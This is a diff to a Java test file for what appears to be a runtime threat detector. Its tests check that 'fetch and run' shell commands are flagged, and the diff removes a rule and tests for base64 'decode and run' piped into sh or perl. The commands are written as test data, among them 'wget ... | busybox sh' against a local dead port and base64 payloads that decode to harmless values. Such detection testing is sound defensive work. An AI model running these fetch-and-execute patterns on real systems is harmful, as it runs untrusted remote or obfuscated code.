@@ -8,7 +8,7 @@ import java.util.List;
 import org.junit.jupiter.api.Test;
 
 /**
- * VDT-3006 to VDT-3008, 3021, 3023, 3024 and 3031: what is brought in, how it is run, what it is disguised as and what
+ * VDT-3006 to VDT-3008, 3021, 3023 and 3024: what is brought in, how it is run, what it is disguised as and what
  * it changes.
  */
 @OnAttackRange
@@ -36,26 +36,14 @@ class ForeignToolsTest {
     }
 
     @Test
-    void codeFetchedOrDecodedAndRunIsFound() {
+    void codeFetchedAndRunIsFound() {
         Workload attacked = range.ordinary();
 
         attacked.does("""
                 /bin/busybox wget -q -O- http://127.0.0.1:1/ | /bin/busybox sh
-                echo dHJ1ZQo= | /bin/busybox base64 -d | /bin/busybox sh
                 """).worked();
 
         attacked.isFound("VDT-3008", Severity.HIGH);
-        attacked.isFound("VDT-3031", Severity.MEDIUM);
-    }
-
-    @Test
-    void decodingToAnInterpreterOfAnotherLanguageIsFound() {
-        Workload attacked = range.ordinary();
-
-        attacked.does("echo MTsK | /bin/busybox base64 -d | /usr/bin/perl -").worked();
-
-        attacked.isFound("VDT-3031", Severity.MEDIUM);
-        attacked.isSilentOn("VDT-3008");
     }
 
     @Test
@@ -97,6 +85,6 @@ class ForeignToolsTest {
                 /bin/busybox wget -q -O- http://127.0.0.1:1/ | /bin/busybox sort
                 """).worked();
 
-        workload.isSilentOn("VDT-3006", "VDT-3007", "VDT-3008", "VDT-3021", "VDT-3023", "VDT-3024", "VDT-3031");
+        workload.isSilentOn("VDT-3006", "VDT-3007", "VDT-3008", "VDT-3021", "VDT-3023", "VDT-3024");
     }
 }
